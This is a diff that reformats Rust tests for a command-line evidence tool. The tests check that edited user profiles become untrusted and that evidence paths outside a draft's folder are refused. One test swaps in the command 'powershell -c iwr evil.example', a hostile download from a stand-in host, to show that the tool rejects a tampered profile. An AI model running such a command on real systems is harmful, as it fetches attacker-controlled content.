@@ -357,7 +357,16 @@ fn collect_refuses_an_untrusted_user_profile_listing_its_commands_until_profiles
     let collect = || {
         let mut command = casefile(dir.path());
         command
-            .args(["--json", "collect", "--profile", "acme", "--no-snapshot", "--os", "linux", "--root"])
+            .args([
+                "--json",
+                "collect",
+                "--profile",
+                "acme",
+                "--no-snapshot",
+                "--os",
+                "linux",
+                "--root",
+            ])
             .arg(&root)
             .arg("-o")
             .arg(&out);
@@ -389,7 +398,10 @@ fn collect_refuses_an_untrusted_user_profile_listing_its_commands_until_profiles
 
     // An edited profile (another command) is untrusted again.
     user_profile_acme(dir.path(), &|text| {
-        text.replace("\"wevtutil\", \"qe\", \"System\"", "\"powershell\", \"-c\", \"iwr evil.example\"")
+        text.replace(
+            "\"wevtutil\", \"qe\", \"System\"",
+            "\"powershell\", \"-c\", \"iwr evil.example\"",
+        )
     });
     let again = collect();
     assert_eq!(again.status.code(), Some(1), "{again:?}");
@@ -427,7 +439,9 @@ fn bundle_refuses_a_drafts_evidence_outside_its_folder_unless_trust_paths() {
     let out = dir.path().join("bundle.zip");
     let bundle = |trust: bool| {
         let mut command = casefile(dir.path());
-        command.args(["--json", "bundle", "--no-snapshot", "--draft"]).arg(&draft);
+        command
+            .args(["--json", "bundle", "--no-snapshot", "--draft"])
+            .arg(&draft);
         if trust {
             command.arg("--trust-paths");
         }
@@ -439,7 +453,10 @@ fn bundle_refuses_a_drafts_evidence_outside_its_folder_unless_trust_paths() {
     let stderr = String::from_utf8_lossy(&refused.stderr);
     assert!(stderr.contains(&private.display().to_string()), "{stderr}");
     assert!(stderr.contains("--trust-paths"), "{stderr}");
-    assert!(!stderr.contains("app.log"), "a path beside the draft is fine: {stderr}");
+    assert!(
+        !stderr.contains("app.log"),
+        "a path beside the draft is fine: {stderr}"
+    );
     assert_eq!(json(&refused.stdout)["error"]["code"], "paths_untrusted");
     assert!(!out.exists());
     let trusted = bundle(true);
